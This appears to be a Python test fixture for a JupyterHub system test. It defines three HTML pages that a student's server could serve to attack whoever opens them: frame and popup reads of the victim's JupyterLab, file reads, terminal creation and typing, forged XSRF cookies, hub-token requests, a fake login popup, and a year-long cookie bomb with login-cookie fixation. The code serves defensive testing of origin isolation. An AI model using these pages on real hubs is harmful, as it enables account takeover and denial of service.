"""A page a student serves from her own server, trying to act for whoever opens it: the route
of the December 2026 walk (docs/jupyterhub.md, "One name per account"), for
tests/system/test_hub.py.

A student puts `PAGE` under `~/.local/share/jupyter/labextensions/<name>/static/`, which her
server serves without a login, and sends the link. Opened with `?mode=frame`, its script
acts at once (the instructor only opens the link); with `?mode=popup` it acts when the
visitor clicks "Show my chart" (a classmate's one click). It tries what worked on a hub
with one origin: read the victim's JupyterLab (its XSRF cookie) in a frame or a popup,
read the victim's files, open a terminal as the victim, type into a terminal of theirs,
make the victim a hub token, and each with an XSRF cookie of its own making set for the
hub's whole name. Each attempt is written down as "got ..." or "refused: ..." in the
element `#out` (JSON), and the page's title becomes "done". Two controls show that the
script itself works: it reads a file of its own origin (`control-fetch`) and, on a second
click ("Show the legend"), a popup of its own origin (`control-popup`).

`LOGIN_PAGE` and `COOKIE_PAGE` are the walk of 7 December 2026's: the hub's login page
opened on the student's own name, and cookies set for the hub's whole name.
"""

from __future__ import annotations

OTHER = "<!doctype html><title>legend</title><p>the chart's legend</p>\n"
# Each page's way of writing down what each attempt got, in `#out` (JSON).
NOTES = r"""const results = {};
const sleep = ms => new Promise(done => setTimeout(done, ms));
function note(what, how) {
  results[what] = String(how);
  document.getElementById("out").textContent = JSON.stringify(results);
}
async function attempt(what, act) {
  try { note(what, "got " + await act()); } catch (error) { note(what, "refused: " + error); }
}
"""

PAGE = r"""<!doctype html>
<html><head><title>question</title></head>
<body>
<p>A question about Exercise 2.1: could you look at my chart?</p>
<button id="show">Show my chart</button> <button id="legend">Show the legend</button>
<pre id="out">{}</pre>
<script>
const query = new URLSearchParams(location.search);
const victim = query.get("victim"), hub = query.get("hub"), marker = query.get("marker");
const hubName = new URL(hub).host;
const server = location.protocol + "//" + victim + "." + hubName + "/user/" + victim + "/";
// NOTES
function frame(src) {
  const element = document.createElement("iframe");
  element.src = src;
  document.body.appendChild(element);
  return element.contentWindow;
}
async function read(win) {  // the window's cookies and title, once it has loaded
  let last = "never loaded";
  for (let i = 0; i < 12; i++) {
    await sleep(250);
    try {
      if (win.document.readyState === "complete" && win.location.href !== "about:blank")
        return "cookie " + JSON.stringify(win.document.cookie) + ", title " + win.document.title;
    } catch (error) { last = error; }
  }
  throw last;
}
function typeInto(name) {  // a terminal of the victim's, by its name
  return new Promise((done, fail) => {
    const socket = new WebSocket(server.replace(/^http/, "ws") + "terminals/websocket/" + name);
    socket.onopen = () => {
      socket.send(JSON.stringify(["stdin", "touch " + marker + "\r"]));
      setTimeout(() => done("typed"), 1000);
    };
    socket.onerror = () => fail("the websocket was refused");
    socket.onclose = event => fail("the websocket closed (" + event.code + ")");
  });
}
async function requests() {
  await attempt("control-fetch", async () => {
    const answer = await fetch(new URL("other.html", location.href));
    return answer.status + " " + (await answer.text()).slice(0, 40);
  });
  await attempt("read-files", async () => {
    const answer = await fetch(server + "api/contents", {credentials: "include"});
    return answer.status + " " + (await answer.text()).slice(0, 80);
  });
  await attempt("new-terminal", async () => {
    const answer = await fetch(server + "api/terminals",
                               {method: "POST", mode: "no-cors", credentials: "include"});
    return "a request sent (" + answer.type + " answer)";
  });
  document.cookie = "_xsrf=forged; domain=" + new URL(hub).hostname + "; path=/";
  await attempt("new-terminal-forged-xsrf", async () => {
    const answer = await fetch(server + "api/terminals", {
      method: "POST", mode: "no-cors", credentials: "include",
      body: new URLSearchParams({_xsrf: "forged"})});
    return "a request sent (" + answer.type + " answer)";
  });
  await attempt("hub-token", async () => {  // JSON sent as text/plain: no preflight
    const answer = await fetch(hub + "/hub/api/users/" + victim + "/tokens?_xsrf=forged", {
      method: "POST", mode: "no-cors", credentials: "include",
      body: JSON.stringify({note: "for alice", expires_in: 3600})});
    return "a request sent (" + answer.type + " answer)";
  });
  for (const name of ["1", "2", "3"]) await attempt("terminal-" + name, () => typeInto(name));
  document.title = "done";
}
async function attackInFrames() {
  await attempt("frame-lab", () => read(frame(server + "lab")));
  await attempt("frame-hub", () => read(frame(hub + "/hub/token")));
  await requests();
}
document.getElementById("show").onclick = async () => {
  const lab = window.open(server + "lab");  // first, while the click allows a popup
  await attempt("popup-lab", () => read(lab));
  await requests();
};
document.getElementById("legend").onclick = async () => {
  const own = window.open(new URL("other.html", location.href));
  await attempt("control-popup", () => read(own));
};
if (query.get("mode") === "frame") attackInFrames();
</script>
</body></html>
""".replace("// NOTES\n", NOTES)


# The walk of 7 December 2026 (A3): the hub's own login page, opened by a student's page in a
# popup on her own name, read as the instructor typed into it, then the hub's API asked for a
# token as him. `LOGIN_PAGE?victim=NAME` tries, on a click of "Sign in to see my chart", the
# popup of /hub/login on the page's own origin (read once loaded), and the hub's API on that
# origin, with the visitor's cookies: whoever they are, and a token for `victim`. Each attempt
# is written down in `#out` as "got ..." or "refused: ...", and the title becomes "done".
LOGIN_PAGE = r"""<!doctype html>
<html><head><title>login</title></head>
<body>
<p>My chart needs you to sign in again.</p>
<button id="show">Sign in to see my chart</button>
<pre id="out">{}</pre>
<script>
const victim = new URLSearchParams(location.search).get("victim");
// NOTES
async function read(win) {
  let last = "never loaded";
  for (let i = 0; i < 40; i++) {
    await sleep(250);
    try {
      if (win.document.readyState === "complete" && win.location.href !== "about:blank")
        return win.location.href + " " + win.document.title + " form:" +
          Boolean(win.document.querySelector("#username_input"));
    } catch (error) { last = error; }
  }
  throw last;
}
document.getElementById("show").onclick = async () => {
  const login = window.open(location.origin + "/hub/login");
  await attempt("popup-login", () => read(login));
  await attempt("whoami", async () => {
    const answer = await fetch(location.origin + "/hub/api/user", {credentials: "include"});
    return answer.status + " " + (await answer.text()).slice(0, 80);
  });
  await attempt("token", async () => {
    const answer = await fetch(location.origin + "/hub/api/users/" + victim + "/tokens", {
      method: "POST", credentials: "include", headers: {"Content-Type": "application/json"},
      body: JSON.stringify({note: "made by a student's page"})});
    return answer.status + " " + (await answer.text()).slice(0, 80);
  });
  document.title = "done";
};
</script>
</body></html>
""".replace("// NOTES\n", NOTES)

# The walk's A4 and A5: a student's page, opened once (no click), sets cookies for the hub's
# whole name: COOKIE_PAGE?hub=HUB&login=VALUE&victim=NAME[&xsrf=X] sets thirty cookies of 3,800 bytes
# (the bomb: 431 for every later request of the visitor, for a year), the same names on the
# victim's paths, login cookies of the student's own (VALUE: her own login cookie, copied
# from her browser) under the hub's names, with and without __Host- (which no browser lets a
# page set for another name), and an _xsrf cookie (`xsrf`: her own, copied; else a forged
# one) on the hub's login path and on the victim's server's paths. The title becomes "done" with the number of cookies it set.
COOKIE_PAGE = r"""<!doctype html>
<html><head><title>cookies</title></head>
<body>
<p>Thanks for looking at my notebook!</p>
<script>
const query = new URLSearchParams(location.search);
const hubName = new URL(query.get("hub")).hostname, victim = query.get("victim");
const login = query.get("login"), year = 365 * 24 * 3600;
const big = "x".repeat(3800);
const scope = "; domain=" + hubName + "; max-age=" + year + "; secure";
for (let i = 0; i < 30; i++) document.cookie = "bomb" + i + "=" + big + scope + "; path=/";
for (let i = 0; i < 10; i++)
  document.cookie = "jupyterhub-user-" + victim + "-oauth-state-" + i + "=" + big + scope +
    "; path=/user/" + victim + "/";
for (const path of ["/", "/hub/", "/hub/home"]) {
  document.cookie = "jupyterhub-hub-login=" + login + scope + "; path=" + path;
  document.cookie = "__Host-jupyterhub-hub-login=" + login + scope + "; path=" + path;
}
for (const path of ["/hub/", "/hub/login", "/user/" + victim + "/", "/user/" + victim + "/api/"])
  document.cookie = "_xsrf=" + (query.get("xsrf") || "forged") + scope + "; path=" + path;
document.cookie = "jupyterhub-session-id=forged" + scope + "; path=/";
document.title = "done " + document.cookie.split(";").length;
</script>
</body></html>
"""
